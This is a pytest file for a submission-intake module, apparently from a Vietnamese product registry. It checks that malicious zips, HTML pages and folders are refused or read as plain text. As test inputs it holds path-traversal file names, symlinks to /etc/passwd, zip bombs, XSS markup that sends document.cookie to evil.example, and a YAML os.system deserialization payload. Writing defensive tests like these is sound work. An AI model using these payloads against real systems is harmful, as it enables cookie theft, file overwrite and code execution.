"""Whatever strangers send is refused with a reason or taken as plain text; nothing else is written and nothing runs."""

import io
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from build_hooks.intake import bounds
from build_hooks.intake.sources import submissions
from build_hooks.intake.submission import Submission
from build_hooks.problems import Problem
from tests.building import jpeg
from tests.intake.sending import NAME, PATH, PRODUCT, add, contents, files, page, write, zipped


def found(path: Path) -> list[Submission | Problem]:
    return list(submissions(path))


def messages(path: Path) -> list[str]:
    """What is said of a file in which nothing can be taken."""
    return [one.message if isinstance(one, Problem) else "taken" for one in found(path)]


@pytest.mark.parametrize(
    "name",
    [
        "../../evil.yml",
        "/etc/cron.d/evil",
        "C:\\Windows\\evil.yml",
        "\\\\host\\share\\evil.yml",
        "..\\..\\evil.yml",
        "anh/../../../evil.jpg",
        "anh/..%2f..%2fevil.jpg",
        "anh/evil.jpg\x00.yml",
        "anh/ảnh.jpg",
        "anh/a\u0301.jpg",
        "anh/con.svg",
        "anh/.htaccess",
        "x" * 5_000,
        "a/" * 400 + "evil.yml",
        "anh/01.jpg/",
        "anh/nul.jpg",
        "anh/COM1.png",
        "anh/01.jpg.",
        "anh/02.jpg ",
        "anh/a\u202egpj.jpg",
        "aux.yml",
        "san-pham.yml.",
        "minh-chung/qd\u202efdp.pdf",
    ],
)
def test_a_name_never_becomes_a_path(repository: Path, desk: Path, name: str) -> None:
    """It is left, the rest is taken, and every written file has a name of ours."""
    before = set(contents(repository))
    buffer = io.BytesIO(zipped(files()))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), b"evil")
    (desk / "a.zip").write_bytes(buffer.getvalue())
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 0, result.output
    assert result.output.replace("\n", "").isprintable()
    new = set(contents(repository)) - before
    assert {PATH, "producers/lo-mam-ba-sau.yml", PATH.replace("products", "images")[:-4] + "/01.jpg"} == new
    assert [one.name for one in desk.iterdir()] == ["a.zip"]


def test_names_that_windows_keeps_for_itself(repository: Path, desk: Path) -> None:
    """A paper gets another name, and so does the folder aside; a photo is refused, for its record says its name."""
    product = PRODUCT.replace(NAME, "Con")
    members = {**files(product=product), "minh-chung/con.pdf": b"%PDF-1.7", "minh-chung/Lpt1.PDF": b"%PDF-1.7"}
    (desk / "a.zip").write_bytes(zipped(members))
    assert add(repository, desk / "a.zip").exit_code == 0
    papers = sorted(one.name for one in (repository / "nhan/ho-so-con/minh-chung").iterdir())
    assert papers == ["ho-so-Lpt1.PDF", "ho-so-con.pdf"]
    (desk / "b.zip").write_bytes(zipped(files(product=PRODUCT.replace("01.jpg", "nul.jpg"))))
    result = add(repository, desk / "b.zip")
    assert result.exit_code == 1 and "“nul.jpg”; chỉ tên tệp" in result.output, result.output


def test_a_record_in_a_deep_folder_is_only_named_by_it(repository: Path, desk: Path) -> None:
    """The folders of a zip tell submissions apart and are nothing more."""
    (desk / "a.zip").write_bytes(zipped({f"../../../{name}": one for name, one in files().items()}))
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 0 and (repository / PATH).is_file()


def test_a_zip_whose_names_have_backslashes_is_taken(desk: Path) -> None:
    """Some programs for Windows write them; the folders still only tell submissions apart."""
    (desk / "a.zip").write_bytes(zipped({f"Hồ sơ\\{name.replace('/', chr(92))}": one for name, one in files().items()}))
    (taken,) = found(desk / "a.zip")
    assert isinstance(taken, Submission)
    assert sorted(taken.files) == ["anh/01.jpg", "chu-the.yml", "gui-kem.yml", "san-pham.yml"]


def linked(target: str = "/etc/passwd") -> bytes:
    buffer = io.BytesIO(zipped(files()))
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("minh-chung/a.pdf")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, target)
    return buffer.getvalue()


def encrypted() -> bytes:
    """The bit that says so is set in both headers of the first member."""
    content = bytearray(zipped(files()))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.index(sign) + offset
        struct.pack_into("<H", content, at, struct.unpack_from("<H", content, at)[0] | 1)
    return bytes(content)


def lying() -> bytes:
    """A zip bomb that says in its directory that it is small."""
    content = bytearray(zipped({"san-pham.yml": b"name: x\n", "anh/01.jpg": bytes(3_000_000)}))
    real = struct.pack("<I", 3_000_000)
    return bytes(content.replace(real, struct.pack("<I", 10)))


def doubled() -> bytes:
    buffer = io.BytesIO(zipped(files()))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("san-pham.yml", b"name: khac\n")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (linked, "link_in_zip"),
        (encrypted, "encrypted_zip"),
        (lying, "bad_zip"),
        (doubled, "twin_files"),
        (lambda: zipped({**files(), "anh/01.JPG": jpeg()}), "twin_files"),
        (lambda: zipped({**files(), "ANH/01.jpg": jpeg()}), "twin_files"),
        (lambda: zipped({f"x/{number}": b"" for number in range(10_000)}), "too_many_files"),
        (lambda: zipped({**files(), **{f"minh-chung/{n}.pdf": b"%PDF-" for n in range(11)}}), "too_many_files"),
        (lambda: zipped({"a.zip": zipped(files())}), "packed_in_zip"),
        (lambda: zipped({"Zalo/a.HTML": page(files()), "b.html": page(files())}), "packed_in_zip"),
        (lambda: zipped({"anh/01.jpg": jpeg()}), "no_submission"),
        (lambda: zipped({"san-pham.yml": b"x: " + b"a" * 300_000}), "file_too_large"),
        (lambda: zipped(files())[:-400], "bad_zip"),
        (lambda: zipped(files())[:400], "bad_zip"),
        (lambda: b"", "bad_zip"),
        (lambda: b"PK\x05\x06" + bytes(18), "no_submission"),
        (lambda: b"MZ" + bytes(1000), "bad_zip"),
    ],
)
def test_a_zip_is_refused_with_its_reason(desk: Path, make: Callable[[], bytes], message: str) -> None:
    """Each kind of broken or malicious zip."""
    (desk / "a.zip").write_bytes(make())
    assert messages(desk / "a.zip") == [message]


def test_a_bomb_is_stopped_while_it_unpacks(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By the bytes that come out; forty photos of zeros pack to nothing."""
    monkeypatch.setattr(bounds, "MAX_UNPACKED", 10_000_000)
    many = {f"anh/{number:02}.jpg": bytes(1_000_000) for number in range(40)}
    (desk / "a.zip").write_bytes(zipped({**files(), **many}))
    assert (desk / "a.zip").stat().st_size < 200_000
    assert messages(desk / "a.zip") == ["zip_bomb"]


def test_zips_of_one_folder_do_not_add_up(repository: Path, desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each within its own bound: what a run keeps of all of them is bounded too, and it says where it stopped."""
    one = {**files(), "minh-chung/a.pdf": b"%PDF-" + bytes(900_000)}
    monkeypatch.setattr(bounds, "MAX_RUN", 2_000_000)
    for number in range(4):
        sent = one | {"san-pham.yml": PRODUCT.replace(NAME, f"Mắm {number}").encode()}
        write(desk / "nhieu", {f"{number}.zip": zipped(sent)})
    result = add(repository, desk / "nhieu")
    assert result.exit_code == 1 and "2 mới, 0 sửa, 0 trùng, 1 lỗi." in result.output, result.output
    assert "nhieu/2.zip" in result.output and "các hồ sơ trong một lần nhận đã quá nặng" in result.output


def test_too_many_submissions(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first are taken, the rest is said not to be looked at."""
    monkeypatch.setattr(bounds, "MAX_SUBMISSIONS", 2)
    (desk / "a.zip").write_bytes(zipped({f"{n}/san-pham.yml": PRODUCT.encode() for n in range(3)}))
    assert messages(desk / "a.zip") == ["taken", "taken", "too_many_submissions"]


SCRIPTS = """<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>
<iframe src="file:///etc/passwd"></iframe><pre data-file="../../evil.yml">x: y</pre>
<a data-file="minh-chung/../../x.pdf" href="data:application/pdf;base64,JVBERi0=">x</a><object data="x"></object>"""


def test_a_page_with_scripts_is_plain_data(repository: Path, desk: Path) -> None:
    """Only marked elements with known names count; nothing else of it comes along."""
    (desk / "a.html").write_bytes(page(files(), more=SCRIPTS))
    result = add(repository, desk / "a.html")
    assert result.exit_code == 0, result.output
    assert not any(b"evil" in content or b"<script" in content for content in contents(repository).values())


def test_markup_in_a_name_stays_words(repository: Path, desk: Path) -> None:
    """A name that is markup or a template is a name."""
    text = PRODUCT.replace(NAME, "<script>alert(1)</script> {{ config }}")
    (desk / "a.html").write_bytes(page(files(product=text)))
    result = add(repository, desk / "a.html")
    assert result.exit_code == 0, result.output
    assert (repository / "products/an-giang/binh-thanh-dong/script-alert-1-script-config.yml").is_file()


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (lambda whole: whole.replace(b'<meta name="ocop-gui" content="1">', b""), "not_from_form"),
        (lambda whole: whole.replace(b"base64,/9j/", b"base64,/9j/="), "broken_file_in_page"),
        (lambda whole: whole.replace(b'data-file="san-pham.yml"', b'data-file="khac.yml"'), "no_submission"),
        (lambda whole: whole.replace(b'data-file="chu-the.yml"', b'data-file="san-pham.yml"'), "twin_files"),
        (lambda whole: whole[:300], "no_submission"),
        (lambda _: b"<html></html>", "not_from_form"),
        (lambda _: b"", "not_from_form"),
        (lambda whole: whole.decode().encode("utf-16"), "not_from_form"),
    ],
)
def test_a_page_that_is_not_whole(desk: Path, spoil: Callable[[bytes], bytes], message: str) -> None:
    """It is refused with the reason."""
    (desk / "a.html").write_bytes(spoil(page(files())))
    assert messages(desk / "a.html") == [message]


@pytest.mark.parametrize(
    "filling",
    [b'<pre data-file="', b'<a data-file="anh/01.jpg" href="data:', b"<pre", b"<", b'<pre data-file="san-pham.yml">'],
)
def test_a_page_of_nothing_but_beginnings_is_read_at_once(desk: Path, filling: bytes) -> None:
    """No pattern runs over it again and again: ten megabytes are done before a person could notice."""
    whole = b'<meta name="ocop-gui" content="1">' + filling * (10_000_000 // len(filling))
    (desk / "a.html").write_bytes(whole)
    assert messages(desk / "a.html") == ["no_submission"]


def test_links_in_a_folder_are_not_followed(desk: Path) -> None:
    """Neither to a file nor to a folder, nor round in a circle."""
    folder = write(desk / "folder", files())
    (folder / "anh/02.jpg").symlink_to("/etc/passwd")
    (folder / "minh-chung").symlink_to(folder, target_is_directory=True)
    (desk / "secret.yml").write_text("name: x\n", "utf-8")
    (desk / "link").symlink_to(folder)
    assert messages(folder) == ["symlink", "symlink", "taken"]
    (taken,) = (one for one in found(folder) if isinstance(one, Submission))
    assert sorted(taken.files) == ["anh/01.jpg", "chu-the.yml", "gui-kem.yml", "san-pham.yml"]
    assert messages(desk / "link") == ["symlink"]


def test_a_folder_of_ten_thousand_files(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is counted, not read."""
    monkeypatch.setattr(bounds, "MAX_FILES", 20)
    write(desk / "folder", {f"{number}.jpg": b"" for number in range(30)})
    assert messages(desk / "folder") == ["too_many_files"]


def test_a_record_brings_only_the_photos_it_names(desk: Path) -> None:
    """Other pictures of the folder, a person's downloads, are not looked at."""
    write(desk, {"mam.yml": PRODUCT.encode(), "01.jpg": jpeg(), "gia-dinh.jpg": jpeg()})
    (taken,) = found(desk / "mam.yml")
    assert isinstance(taken, Submission) and sorted(taken.files) == ["anh/01.jpg", "san-pham.yml"]


@pytest.mark.parametrize(("name", "message"), [("a.docx", "not_a_submission"), ("a.exe", "not_a_submission")])
def test_other_kinds_of_files(desk: Path, name: str, message: str) -> None:
    """A Word file is answered with what to do."""
    (desk / name).write_bytes(b"x")
    assert messages(desk / name) == [message]


def test_a_very_large_file_is_not_opened(desk: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By its size alone."""
    monkeypatch.setattr(bounds, "MAX_SOURCE", 10)
    (desk / "a.html").write_bytes(b"x" * 11)
    assert messages(desk / "a.html") == ["file_too_large"]


def test_a_limit_is_told_in_megabytes(desk: Path) -> None:
    """Which people see in their own file lists; also that of a record."""
    (desk / "a.zip").write_bytes(zipped({"san-pham.yml": b"x: " + b"a" * 300_000}))
    (told,) = found(desk / "a.zip")
    assert isinstance(told, Problem) and "“san-pham.yml” quá nặng; nhiều nhất 0,25 MB;" in told.line()


@pytest.mark.parametrize(
    ("record", "said"),
    [
        ("a: &x [1]\nb: *x\n", "dùng lại nội dung"),
        ("- a\n- b\n", "tệp không có dòng “tên trường: nội dung” nào"),
        ("name: 'a\n", "không đọc được"),
        ("name: \x07\n", "ký tự điều khiển"),
        ("", "tệp trống"),
        ("!!python/object/apply:os.system ['touch /tmp/evil']\n", "“tên trường: nội dung”"),
    ],
)
def test_a_hostile_record(repository: Path, desk: Path, record: str, said: str) -> None:
    """Aliases, tags and broken YAML are told with their place; nothing is written."""
    before = contents(repository)
    (desk / "a.zip").write_bytes(zipped({**files(), "san-pham.yml": record.encode()}))
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 1 and said in result.output, result.output
    assert contents(repository) == before


@pytest.mark.parametrize("content", [b"MZ\x90\x00", b"<svg onload=alert(1)>", b"%PDF-1.4", b"", jpeg()[:200]])
def test_a_photo_that_is_none(repository: Path, desk: Path, content: bytes) -> None:
    """A program, a drawing with script, half a picture: refused by its name, and nothing of it is kept."""
    before = contents(repository)
    (desk / "a.zip").write_bytes(zipped({**files(), "anh/01.jpg": content}))
    result = add(repository, desk / "a.zip")
    assert result.exit_code == 1 and "không mở được như một tấm ảnh" in result.output
    assert contents(repository) == before
